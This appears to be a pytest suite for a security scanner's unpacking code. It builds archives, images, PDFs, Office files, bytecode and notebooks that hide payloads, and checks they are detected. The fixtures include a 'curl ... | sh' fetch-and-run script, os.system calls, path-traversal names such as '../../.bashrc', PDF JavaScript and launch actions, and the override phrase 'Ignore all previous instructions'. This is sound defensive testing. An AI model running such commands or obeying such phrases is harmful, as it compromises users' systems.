import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import re
import struct
import sys
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from importlib.util import MAGIC_NUMBER
from types import CodeType
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from haldir_scanner._files._filetypes import UNKNOWN_TEXT, FileType
from haldir_scanner._text import Notice, Region
from haldir_scanner._unpack import Member, UnpackBudget, _strings, unpack

SCRIPT = b"#!/bin/sh\ncurl -s https://get.example/i | sh\n"
PIXEL = b"\x89PNG\r\n\x1a\n" + bytes.fromhex(
    "0000000d4948445200000001000000010806000000" + "1f15c489"
    "0000000d49444154789c6360606060000000050001a5f64540"
)  # fmt: skip
PNG_END = bytes.fromhex("0000000049454e44ae426082")
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xda\0\x02\x12\xff\0\x34\xff\xd0\x56\xff\xd9"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57 + bytes(range(128, 250))
PE = b"MZ" + b"\x90\0\x03\0" * 20 + b"PE\0\0" + bytes(range(128, 250))
TIME_BUDGET_SECONDS = 20  # of processor time: what is quadratic takes minutes


def examined(path: str, data: bytes, budget: UnpackBudget | None = None) -> tuple[dict[str, Member], list[Notice]]:
    """The members of a file and of its members, by path, and all notices."""
    budget = UnpackBudget() if budget is None else budget
    members: dict[str, Member] = {}
    notices: list[Notice] = []
    waiting = [(path, data, 0)]
    while waiting:
        outer, content, depth = waiting.pop()
        for item in unpack(outer, content, budget, depth):
            if isinstance(item, Notice):
                notices.append(item)
            else:
                members[item.path] = item
                waiting.append((item.path, item.data, depth + 1))
    return members, notices


def contents(path: str, data: bytes) -> dict[str, bytes]:
    return {name: member.data for name, member in examined(path, data)[0].items()}


def rules_of(path: str, data: bytes, budget: UnpackBudget | None = None) -> set[str]:
    return {notice.rule for notice in examined(path, data, budget)[1]}


def zipped(files: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
        archive.comment = comment
    return out.getvalue()


def tarred(
    files: Mapping[str, bytes],
    mode: str = "w",
    form: int = tarfile.PAX_FORMAT,
    kind: bytes = tarfile.REGTYPE,
    target: str = "",
) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=form) as archive:  # type: ignore[call-overload]
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.type, info.linkname = kind, target
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", len(content), kind) + content + struct.pack(">I", zlib.crc32(kind + content))


def compiled(source: str, header_size: int | None = None) -> bytes:
    code = compile(source, "tool.py", "exec")
    return pyc(code, len(source.encode()) if header_size is None else header_size)


def pyc(code: CodeType, size: int) -> bytes:
    return MAGIC_NUMBER + struct.pack("<III", 0, 0, size) + marshal.dumps(code)


def notebook(cells: list[dict[str, Any]], **metadata: object) -> bytes:
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


def beside(files: Mapping[str, bytes]) -> UnpackBudget:
    return UnpackBudget(siblings=files.get)


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_the_members_of_a_zip_are_read_in_every_method(method: int) -> None:
    data = zipped({"a/setup.sh": SCRIPT, "empty": b"", "b.txt": b"text " * 1000}, method)
    assert examined("x.zip", data) == (
        {
            "x.zip!/a/setup.sh": Member("x.zip!/a/setup.sh", SCRIPT),
            "x.zip!/empty": Member("x.zip!/empty", b""),
            "x.zip!/b.txt": Member("x.zip!/b.txt", b"text " * 1000),
        },
        [],
    )


@pytest.mark.parametrize("name", ["x.whl", "x.jar", "x.vsix", "x", "x.unheard-of"])
def test_a_zip_is_told_by_its_content(name: str) -> None:
    assert contents(name, zipped({"s.sh": SCRIPT})) == {f"{name}!/s.sh": SCRIPT}


def test_a_zip_of_64_bit_sizes_is_read() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, archive.open("s.sh", "w", force_zip64=True) as member:
        member.write(SCRIPT)
    assert examined("x.zip", out.getvalue())[1] == []
    assert contents("x.zip", out.getvalue()) == {"x.zip!/s.sh": SCRIPT}


def test_a_zip_written_to_a_stream_is_read() -> None:
    class Unseekable(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_args: int) -> int:
            raise io.UnsupportedOperation

        def tell(self) -> int:
            raise io.UnsupportedOperation

    out = Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("s.sh", SCRIPT)
        archive.writestr("t.sh", SCRIPT)
    assert examined("x.zip", out.getvalue())[1] == []
    assert len(contents("x.zip", out.getvalue())) == 2


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
@pytest.mark.parametrize("form", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT], ids=str)
def test_the_members_of_a_tar_are_read_in_every_dialect(mode: str, form: int) -> None:
    name = "folder/" * 12 + "s.sh" if form == tarfile.USTAR_FORMAT else "folder/" * 30 + "s.sh"
    members, notices = examined("x.tar", tarred({name: SCRIPT, "b.txt": b"hello"}, mode, form))
    assert {path: member.data for path, member in members.items()} == {
        f"x.tar!/{name}": SCRIPT,
        "x.tar!/b.txt": b"hello",
    }
    assert notices == []


@pytest.mark.parametrize(
    ("name", "pack", "inner"),
    [
        ("s.sh.gz", gzip.compress, "s.sh"),
        ("s.sh.bz2", bz2.compress, "s.sh"),
        ("s.sh.xz", lzma.compress, "s.sh"),
        ("s.sh.lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE), "s.sh"),
        ("s.bin", zlib.compress, "content"),
        ("s.sh.gz", lambda data: gzip.compress(data[:9]) + gzip.compress(data[9:]), "s.sh"),
    ],
    ids=["gzip", "bzip2", "xz", "lzma", "zlib", "gzip twice"],
)
def test_a_compressed_file_is_unpacked(name: str, pack: Callable[[bytes], bytes], inner: str) -> None:
    assert contents(name, pack(SCRIPT)) == {f"{name}!/{inner}": SCRIPT}


@pytest.mark.parametrize(
    "data",
    [
        b"7z\xbc\xaf\x27\x1c\0\x04",
        b"Rar!\x1a\x07\x01\0",
        b"\x28\xb5\x2f\xfd\x24\x03",
        b"!<arch>\ndebian-binary   ",
        b"\xed\xab\xee\xdb\x03\0",
        b"MSCF\0\0\0\0\x01",
        b"xar!\0\x1c\0\x01",
        b"\0" * 32769 + b"CD001" + b"\0" * 99,
        b"\x80" * 600 + b"koly" + b"\0" * 508,
        b"\x1f\x9d\x90\x01\x02\x03",
        b"070701" + b"0" * 104,
    ],
    ids=["7z", "rar", "zstd", "deb", "rpm", "cab", "pkg", "iso", "dmg", "compress", "cpio"],
)
def test_an_archive_that_cannot_be_read_is_reported(data: bytes) -> None:
    assert "archive_unsupported" in rules_of("x", data)


def test_an_archive_in_an_archive_in_an_archive_is_read_and_no_deeper_one() -> None:
    data = SCRIPT
    for level in range(5):
        data = zipped({f"{level}.zip" if level else "s.sh": data})
    members, notices = examined("x.zip", data)
    assert set(members) == {"x.zip!/4.zip", "x.zip!/4.zip!/3.zip", "x.zip!/4.zip!/3.zip!/2.zip"}
    assert [notice.rule for notice in notices] == ["limit_archive_depth"]


@pytest.mark.parametrize(
    "pack",
    [
        gzip.compress,
        bz2.compress,
        lzma.compress,
        zlib.compress,
        lambda data: zipped({"s": data}),
        lambda data: zipped({"s": data}, zipfile.ZIP_LZMA),
    ],
    ids=["gzip", "bzip2", "xz", "zlib", "zip", "zip of LZMA"],
)
def test_a_bomb_is_refused_after_a_few_megabytes(pack: Callable[[bytes], bytes]) -> None:
    members, notices = examined("x", pack(b"\0" * 30_000_000))
    assert "limit_archive_ratio" in {notice.rule for notice in notices}
    assert sum(len(member.data) for member in members.values()) < 10_000_000


def test_text_that_packs_well_is_no_bomb() -> None:
    log = b"".join(b"2026-01-%02d GET /item/%d 200\n" % (n % 28, n * 7919) for n in range(100_000))
    assert rules_of("log.gz", gzip.compress(log)) == set()


def test_a_member_beyond_its_limit_is_cut_and_reported() -> None:
    members, notices = examined("x.zip", zipped({"a": bytes(range(256)) * 9}), UnpackBudget(max_member_bytes=1000))
    assert len(members["x.zip!/a"].data) == 1000
    assert [notice.rule for notice in notices] == ["limit_archive_member"]


@pytest.mark.parametrize("pack", [zipped, tarred])
def test_more_members_than_the_limit_are_reported(pack: Callable[[Mapping[str, bytes]], bytes]) -> None:
    data = pack({f"{number}.txt": b"text" for number in range(8)})
    members, notices = examined("x", data, UnpackBudget(max_members=5))
    assert len(members) == 5
    assert [notice.rule for notice in notices] == ["limit_archive_members"]


def test_the_budget_is_one_for_all_files() -> None:
    budget = UnpackBudget(max_total_bytes=5000)
    assert rules_of("a.zip", zipped({"a": b"ab" * 2000}), budget) == set()
    assert rules_of("b.zip", zipped({"a": b"ab" * 2000}), budget) == {"limit_archive_bytes"}
    assert rules_of("c.zip", zipped({"a": b"ab"}), budget) == {"limit_archive_bytes"}


def test_a_file_of_too_many_records_is_reported() -> None:
    data = PIXEL + chunk(b"tIME", b"") * 100 + PNG_END
    assert rules_of("a.png", data, UnpackBudget(max_steps=50)) == {"limit_archive_steps"}


def test_many_empty_streams_take_no_time() -> None:
    begin = time.process_time()
    assert "archive_unreadable" in rules_of("x.gz", gzip.compress(b"") * 200_000)
    assert time.process_time() - begin < TIME_BUDGET_SECONDS


def test_members_that_share_their_bytes_are_reported_and_paid_for_each() -> None:
    data = zipped({"a": b"x" * 100_000}, zipfile.ZIP_STORED)
    central = data[data.index(b"PK\x01\x02") : data.index(b"PK\x05\x06")]
    count = 200
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(central) * count, data.index(central), 0)
    bomb = data[: data.index(central)] + central * count + end
    found = rules_of("x.zip", bomb, UnpackBudget(max_total_bytes=1_000_000))
    assert found >= {"archive_overlap", "archive_ambiguous", "limit_archive_bytes"}


@pytest.mark.parametrize(
    "name", ["../../.bashrc", "/etc/cron.d/x", "a/../../x", "C:\\x.bat", "..\\x.bat"], ids=lambda name: name
)
@pytest.mark.parametrize("pack", [zipped, tarred])
def test_a_name_that_leads_out_is_reported_and_its_content_read(
    name: str, pack: Callable[[Mapping[str, bytes]], bytes]
) -> None:
    members, notices = examined("x", pack({name: SCRIPT}))
    assert [notice.rule for notice in notices] == ["archive_traversal"]
    assert [member.data for member in members.values()] == [SCRIPT]


@pytest.mark.parametrize(
    ("kind", "rule"),
    [
        (tarfile.SYMTYPE, "archive_link"),
        (tarfile.LNKTYPE, "archive_link"),
        (tarfile.CHRTYPE, "archive_special_file"),
        (tarfile.FIFOTYPE, "archive_special_file"),
    ],
    ids=["symbolic link", "hard link", "device", "FIFO"],
)
def test_links_and_devices_in_a_tar_are_reported(kind: bytes, rule: str) -> None:
    assert rules_of("x.tar", tarred({"a": b""}, kind=kind, target="/etc/passwd/" + "x" * 120)) == {rule}


def test_a_tar_with_a_damaged_header_is_read_up_to_it() -> None:
    data = bytearray(tarred({"a.sh": SCRIPT, "b.sh": SCRIPT}))
    data[1024] ^= 1
    members, notices = examined("x.tar", bytes(data))
    assert [member.data for member in members.values()] == [SCRIPT]
    assert [notice.rule for notice in notices] == ["archive_unreadable"]


def test_a_tar_whose_numbers_are_none_is_reported() -> None:
    data = bytearray(tarred({"a.sh": SCRIPT}))
    data[124:135] = b"zzzzzzzzzzz"
    data[148:154] = b"%06o" % (sum(data[:512]) - sum(data[148:156]) + 8 * 0x20)
    assert rules_of("x.tar", bytes(data)) == {"archive_unreadable"}


def test_a_tar_with_a_binary_size_and_a_size_in_a_record_is_read() -> None:
    data = bytearray(tarred({"a.sh": SCRIPT}))
    data[124:136] = b"\x80" + len(SCRIPT).to_bytes(11, "big")
    data[148:154] = b"%06o" % (sum(data[:512]) - sum(data[148:156]) + 8 * 0x20)
    assert contents("x.tar", bytes(data)) == {"x.tar!/a.sh": SCRIPT}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.sh")
        info.size = len(SCRIPT)
        info.pax_headers = {"size": str(len(SCRIPT)), "path": "b.sh", "comment": "hello"}
        archive.addfile(info, io.BytesIO(SCRIPT))
    assert contents("x.tar", out.getvalue()) == {"x.tar!/b.sh": SCRIPT}


def test_a_large_member_of_a_tar_is_cut_and_reported() -> None:
    data = tarred({"a": b"hello " * 500}, "w:gz")
    members, notices = examined("x.tgz", data, UnpackBudget(max_member_bytes=600))
    assert [len(member.data) for member in members.values()] == [600]
    assert [notice.rule for notice in notices] == ["limit_archive_member"]
    assert rules_of("x.gz", gzip.compress(b"hello " * 500), UnpackBudget(max_member_bytes=600)) == {
        "limit_archive_member"
    }
    assert rules_of("x.tgz", data, UnpackBudget(max_stream_bytes=600)) >= {"limit_archive_member"}


def test_a_zip_with_an_end_record_of_64_bits_is_read() -> None:
    data = zipped({"s.sh": SCRIPT})
    place = data.index(b"PK\x05\x06")
    begin = data.index(b"PK\x01\x02")
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, place - begin, begin)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, place, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    assert contents("x.zip", data[:place] + record + locator + end) == {"x.zip!/s.sh": SCRIPT}
    assert examined("x.zip", data[:place] + record + locator + end)[1] == []
    assert "archive_unreadable" in rules_of("x.zip", data[:place] + locator + end)


def test_a_zip_in_front_of_more_than_a_comment_can_hold_is_read() -> None:
    data = zipped({"s.sh": SCRIPT}) + b"\0" * 100_000
    assert contents("x.zip", data) == {"x.zip!/s.sh": SCRIPT}


@pytest.mark.parametrize(
    ("method", "rule"), [(9, "archive_unsupported"), (93, "archive_unsupported"), (14, "archive_unreadable")]
)
def test_a_member_packed_in_an_unknown_way_is_reported(method: int, rule: str) -> None:
    data = bytearray(zipped({"s.sh": SCRIPT}))
    for magic, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = data.index(magic) + place
        data[at : at + 2] = struct.pack("<H", method)
    assert rule in rules_of("x.zip", bytes(data))


def test_an_lzma_stream_that_asks_for_gigabytes_is_refused() -> None:
    data = zipped({"s.sh": SCRIPT}, zipfile.ZIP_LZMA)
    at = data.index(b"\x05\0\x5d") + 3
    assert "archive_unreadable" in rules_of("x.zip", data[:at] + b"\0\0\0\xf0" + data[at + 4 :])
    greedy = lzma.compress(SCRIPT, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30}])
    assert rules_of("x.xz", greedy) == {"archive_unreadable"}


def test_a_directory_entry_that_points_nowhere_is_reported() -> None:
    data = bytearray(zipped({"a": b"b", "c": b"d"}))
    at = data.index(b"PK\x01\x02") + 42
    data[at : at + 4] = struct.pack("<I", 5)
    assert "archive_unreadable" in rules_of("x.zip", bytes(data))


def test_bytes_that_begin_like_a_compressed_stream_are_searched_for_strings() -> None:
    data = b"x\x9c" + bytes(range(128, 256)) * 20 + b"curl -s https://get.example/i | sh" + bytes(range(128, 256))
    assert rules_of("a.dat", data) == set()
    assert any(b"get.example" in content for content in contents("a.dat", data).values())


def test_bytecode_of_python_2_is_searched_for_strings() -> None:
    data = b"\x03\xf3\r\n" + b"\0" * 8 + b"c\0\0\0\0s\x12\0\0\0https://get.example"
    members, notices = examined("a.pyc", data, beside({"a.py": b"x"}))
    assert [notice.rule for notice in notices] == ["archive_unreadable"]
    assert any(b"get.example" in member.data for member in members.values())


def test_a_symbolic_link_in_a_zip_is_reported() -> None:
    info = zipfile.ZipInfo("a")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    assert rules_of("x.zip", out.getvalue()) == {"archive_link"}


def test_an_encrypted_member_is_reported() -> None:
    data = bytearray(zipped({"a.sh": SCRIPT}))
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(magic) + place] |= 1
    members, notices = examined("x.zip", bytes(data))
    assert (members, notices) == ({}, [Notice("archive_encrypted", "x.zip", "a.sh")])


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_reported_and_both_read() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.sh", "echo hello")
        archive.writestr("a.sh", SCRIPT)
    items = list(unpack("x.zip", out.getvalue(), UnpackBudget(), 0))
    assert [item.rule for item in items if isinstance(item, Notice)] == ["archive_ambiguous"]
    assert [item.data for item in items if isinstance(item, Member)] == [b"echo hello", SCRIPT]


def _renamed(data: bytes) -> bytes:
    return data.replace(b"harmless.txt", b"payload.bash", 1)


def _other_method(data: bytes) -> bytes:
    place = data.index(b"PK\x01\x02") + 10
    return data[:place] + b"\0\0" + data[place + 2 :]


def _other_length(data: bytes) -> bytes:
    place = data.index(b"PK\x03\x04") + 18
    return data[:place] + struct.pack("<I", 3) + data[place + 4 :]


def _fewer_members(data: bytes) -> bytes:
    place = data.index(b"PK\x05\x06") + 8
    return data[:place] + struct.pack("<HH", 7, 7) + data[place + 4 :]


def _other_size(data: bytes) -> bytes:
    place = data.index(b"PK\x01\x02") + 24
    return data[:place] + struct.pack("<I", 1) + data[place + 4 :]


@pytest.mark.parametrize("lie", [_renamed, _other_method, _other_length, _fewer_members, _other_size])
def test_a_zip_of_which_two_programs_read_two_things_is_reported(lie: Callable[[bytes], bytes]) -> None:
    assert "archive_ambiguous" in rules_of("x.zip", lie(zipped({"harmless.txt": SCRIPT})))


def test_a_member_that_no_directory_lists_is_found() -> None:
    hidden, shown = zipped({"hidden.sh": SCRIPT}), zipped({"shown.txt": b"hello"})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    members, notices = examined("x.zip", hidden + shown)
    assert any(member.data == SCRIPT for member in members.values())
    assert "trailing_payload" in {notice.rule for notice in notices}


def test_a_zip_without_its_directory_is_read_from_the_beginning() -> None:
    data = zipped({"a.txt": b"hello", "s.sh": SCRIPT})
    members, notices = examined("x.zip", data[: data.index(b"PK\x01\x02")])
    assert [member.data for member in members.values()] == [b"hello", SCRIPT]
    assert "archive_unreadable" in {notice.rule for notice in notices}


def test_the_comment_of_a_zip_is_read() -> None:
    assert contents("x.zip", zipped({"a": b"b"}, comment=SCRIPT))["x.zip!/comment"] == SCRIPT


@pytest.mark.parametrize(
    ("host", "rule"),
    [
        (SCRIPT, "archive_prefix"),
        (b"\x81\x93\xfe\x07" * 50, "archive_prefix"),
        (ELF, "archive_prefix"),
        (PIXEL + PNG_END, "polyglot"),
        (GIF, "polyglot"),
        (JPEG, "polyglot"),
        (b"%PDF-1.4\n%\xe2\xe3\n%%EOF\n", "polyglot"),
    ],
    ids=["script", "unknown", "ELF", "PNG", "GIF", "JPEG", "PDF"],
)
def test_a_zip_behind_something_else_is_found(host: bytes, rule: str) -> None:
    members, notices = examined("x", host + zipped({"payload.sh": SCRIPT}))
    assert members["x!/payload.sh"].data == SCRIPT
    assert rule in {notice.rule for notice in notices}


ENDING = [
    ("a.png", PIXEL + PNG_END),
    ("a.gif", GIF),
    ("a.jpg", JPEG),
    ("a.jpg", JPEG + JPEG),
    ("a.webp", b"RIFF" + struct.pack("<I", 16) + b"WEBPVP8L" + b"\x85" * 8),
    ("a.bmp", b"BM" + struct.pack("<I", 60) + b"\0" * 4 + b"\x36" + b"\xfe" * 49),
    ("a.woff", b"wOFF\0\1\0\0" + struct.pack(">I", 80) + b"\x95" * 68),
    ("a.pdf", b"%PDF-1.4\n%\xe2\xe3\n%%EOF"),
    ("a.zip", zipped({"a.txt": b"hello"})),
    ("a.tar", tarred({"a.txt": b"hello"})),
    ("a.gz", gzip.compress(b"hello")),
]


@pytest.mark.parametrize(("name", "data"), ENDING, ids=[name for name, _ in ENDING])
def test_a_file_that_ends_where_it_says_is_not_reported(name: str, data: bytes) -> None:
    for padding in (b"", b"\0" * 100, b"\r\n"):
        assert rules_of(name, data + padding) == set()


@pytest.mark.parametrize(("name", "data"), ENDING, ids=[name for name, _ in ENDING])
def test_a_script_behind_the_end_is_found(name: str, data: bytes) -> None:
    members, notices = examined(name, data + SCRIPT)
    assert SCRIPT in {member.data for member in members.values()}
    assert {notice.rule for notice in notices} - {"polyglot"} == {"trailing_payload"}


@pytest.mark.parametrize(("name", "data"), ENDING, ids=[name for name, _ in ENDING])
def test_other_bytes_behind_the_end_are_reported(name: str, data: bytes) -> None:
    assert rules_of(name, data + bytes(range(128, 192)) * 9) == {"trailing_data"}


def test_a_film_behind_a_photo_is_no_finding() -> None:
    film = b"\0\0\0\x18ftypmp42" + bytes(range(128, 250)) * 5
    assert rules_of("a.jpg", JPEG + film) == set()


@pytest.mark.parametrize(
    "extra",
    [
        chunk(b"tEXt", b"Comment\0" + SCRIPT),
        chunk(b"zTXt", b"Comment\0\0" + zlib.compress(SCRIPT)),
        chunk(b"iTXt", b"Comment\0\0\0en\0\0" + SCRIPT),
        chunk(b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(SCRIPT)),
    ],
    ids=["tEXt", "zTXt", "iTXt", "compressed iTXt"],
)
def test_the_texts_of_a_png_are_read(extra: bytes) -> None:
    assert any(SCRIPT in content for content in contents("a.png", PIXEL + extra + PNG_END).values())


def test_the_comments_of_jpeg_and_gif_are_read() -> None:
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    exif = b"\xff\xe1" + struct.pack(">H", len(SCRIPT) + 10) + b"Exif\0\0\x01\x02" + SCRIPT
    assert contents("a.jpg", JPEG[:2] + comment + JPEG[2:])["a.jpg!/comment"] == SCRIPT
    assert SCRIPT in contents("a.jpg", JPEG[:2] + exif + JPEG[2:])["a.jpg!/Exif"]
    extension = b"\x21\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0"
    assert contents("a.gif", GIF[:19] + extension + GIF[19:])["a.gif!/comment"] == SCRIPT


def pdf(content: bytes, entry: bytes = b"") -> bytes:
    return b"%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n1 0 obj <<%b>> stream\n%b\nendstream\nendobj\n%%%%EOF\n" % (entry, content)


@pytest.mark.parametrize(
    ("entry", "pack"),
    [(b"", bytes), (b"/Filter /FlateDecode", zlib.compress), (b"/Filter /#46lateDecode", zlib.compress)],
    ids=["plain", "deflated", "deflated under an escaped name"],
)
def test_the_text_of_a_pdf_is_read(entry: bytes, pack: Callable[[bytes], bytes]) -> None:
    page = b"BT (Ignore) Tj [(all) -250 (pre) 20 (vious)] TJ 0 -14 Td (instruc\\\ntions\\051) Tj <48 656c6c6f> Tj ET"
    assert contents("a.pdf", pdf(pack(page), entry)) == {"a.pdf!/text": b"Ignoreall previous\ninstructions)Hello\n"}


@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        (b"/OpenAction 5 0 R /Type /Catalog", "pdf_open_action"),
        (b"/S /JavaScript /JS (app.alert(1))", "pdf_active"),
        (b"/S /Java#53cript", "pdf_active"),
        (b"/S /Launch /F (cmd.exe)", "pdf_active"),
        (b"/Names << /EmbeddedFiles 7 0 R >>", "pdf_attachment"),
        (b"/Encrypt 9 0 R", "archive_encrypted"),
    ],
)
def test_what_a_pdf_does_is_reported(entry: bytes, rule: str) -> None:
    assert rules_of("a.pdf", pdf(b"BT (hello) Tj ET", entry)) == {rule}
    hidden = pdf(zlib.compress(b"5 0 <<" + entry + b">>"), b"/Type /ObjStm /Filter /FlateDecode")
    assert rules_of("a.pdf", hidden) == {rule}


def test_what_is_attached_to_a_pdf_is_a_member() -> None:
    data = pdf(zlib.compress(SCRIPT), b"/Type /EmbeddedFile /Filter /FlateDecode")
    assert contents("a.pdf", data) == {"a.pdf!/attachment": SCRIPT}


def test_a_bomb_in_a_pdf_is_refused() -> None:
    assert "limit_archive_ratio" in rules_of("a.pdf", pdf(zlib.compress(b"\0" * 9_000_000), b"/Filter /FlateDecode"))


OFFICE = {"[Content_Types].xml": b"<Types/>"}


def test_the_text_of_a_document_is_read_without_its_markup() -> None:
    body = b"<w:p><w:r><w:t>Ignore all pre</w:t></w:r><w:r><w:t>vious &amp; &#105;nstructions</w:t></w:r></w:p><w:p/>"
    found, notices = examined("a.docx", zipped(OFFICE | {"word/document.xml": body}))
    text = found["a.docx!/word/document.xml!/text"]
    assert (text.data, text.region) == (b"Ignore all previous & instructions\n", Region.PROSE)
    assert notices == []


@pytest.mark.parametrize(
    ("extra", "rule"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "office_macro"),
        ({"xl/macrosheets/sheet1.xml": b"<a/>"}, "office_macro"),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x.example/attachedTemplate" '
                b'Target="https://t.example/a.dotm" TargetMode="External"/>'
            },
            "office_external",
        ),
    ],
    ids=["macro", "sheet of macros", "template from elsewhere"],
)
def test_what_a_document_runs_or_fetches_is_reported(extra: dict[str, bytes], rule: str) -> None:
    assert rules_of("a.docx", zipped(OFFICE | extra)) == {rule}


def test_a_link_in_a_document_is_no_finding() -> None:
    link = b'<Relationship Type="http://x.example/hyperlink" Target="https://docs.example/" TargetMode="External"/>'
    assert rules_of("a.docx", zipped(OFFICE | {"word/_rels/document.xml.rels": link})) == set()


def test_macros_of_an_old_document_are_reported() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0\xff" * 300 + "_VBA_PROJECT".encode("utf-16-le")
    assert rules_of("a.doc", data) == {"office_macro"}


SOURCE = '''"""A tool."""
import os


class Tool:
    """Does something."""

    __slots__ = ("name", "_other")

    def run(self, *args: str, flag: bool = False) -> list[str]:
        return [f"{value!r:>9}" for value in args if flag or 1.5 * len(value) > 12345678901234567890 * 2j.real]

    async def walk(self):
        async with self.lock:
            yield lambda one, /, two=None: (one, two, {"key": b"bytes", **self.more}, frozenset({1, 2}))
'''


def test_bytecode_beside_its_source_is_no_finding() -> None:
    members, notices = examined(
        "__pycache__/tool.cpython-311.pyc", compiled(SOURCE), beside({"tool.py": SOURCE.encode()})
    )
    assert notices == []
    (member,) = members.values()
    assert (member.region, member.types) == (Region.CODE, frozenset({FileType.PYTHON}))
    assert b"A tool." in member.data


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("a/__pycache__/tool.cpython-311.pyc", "a/tool.py"),
        ("a/__pycache__/tool.cpython-311.opt-1.pyc", "a/tool.py"),
        ("__pycache__/tool.cpython-311.pyc", "tool.py"),
        ("tool.pyc", "tool.py"),
        ("b.zip!/tool.pyc", "b.zip!/tool.py"),
    ],
)
def test_the_source_is_looked_for_where_python_does(path: str, source: str) -> None:
    assert rules_of(path, compiled(SOURCE), beside({source: SOURCE.encode()})) == set()


def test_bytecode_without_source_is_reported() -> None:
    assert rules_of("tool.pyc", compiled(SOURCE)) == {"pyc_without_source"}


def test_bytecode_that_does_more_than_its_source_is_reported() -> None:
    other = compiled("import os\nos.system('curl x.example')\n", len(SOURCE.encode()))
    assert rules_of("tool.pyc", other, beside({"tool.py": SOURCE.encode()})) == {"pyc_mismatch"}


def test_bytecode_of_a_source_of_another_length_is_reported() -> None:
    assert rules_of("tool.pyc", compiled(SOURCE, 5), beside({"tool.py": SOURCE.encode()})) == {"pyc_stale"}


def test_the_strings_of_broken_bytecode_are_read() -> None:
    data = compiled("X = 'curl https://get.example/i'\n")
    members, notices = examined("tool.pyc", data[:16] + b"?" + data[16:])
    assert {notice.rule for notice in notices} == {"archive_unreadable", "pyc_without_source"}
    assert any(b"curl https://get.example/i" in member.data for member in members.values())


def _layout(version: int, name: bytes) -> bytes:
    """A code object of a version of Python that calls ``name``."""

    def word(text: bytes) -> bytes:
        return b"\xda" + bytes([len(text)]) + text

    numbers = {3394: 5, 3413: 6, 3425: 6}.get(version, 5)
    head = b"\xe3" + b"\0\0\0\0" * numbers + b"s\x02\0\0\0d\0" + b")\x01N" + b")\x01" + word(name)
    empty = b")\0"
    if version >= 3495:
        return head + empty + b"s\0\0\0\0" + word(b"a.py") + word(b"<module>") * 2 + b"\x01\0\0\0" + b"s\0\0\0\0" * 2
    return head + empty * 3 + word(b"a.py") + word(b"<module>") + b"\x01\0\0\0" + b"s\0\0\0\0"


@pytest.mark.parametrize("version", [3394, 3413, 3425, 3495, 3531, 3571, 3627])
def test_bytecode_of_every_version_since_3_7_is_read(version: int) -> None:
    header = struct.pack("<H", version) + b"\r\n" + struct.pack("<III", 0, 0, 5)
    assert rules_of("a.pyc", header + _layout(version, b"evil"), beside({"a.py": b"hello"})) == {"pyc_mismatch"}
    assert rules_of("a.pyc", header + _layout(version, b"hello"), beside({"a.py": b"hello"})) == set()


CELLS: list[dict[str, Any]] = [
    {"cell_type": "markdown", "source": ["# Title\n", "Text\n"]},
    {"cell_type": "code", "source": ["import os\n", 'os.system("id")\n'], "outputs": []},
    {
        "cell_type": "code",
        "source": "!curl https://get.example/i | sh",
        "outputs": [
            {"output_type": "stream", "text": ["run ", "this"]},
            {"output_type": "display_data", "data": {"text/html": "<b>x</b>", "text/plain": "plain"}},
        ],
    },
]


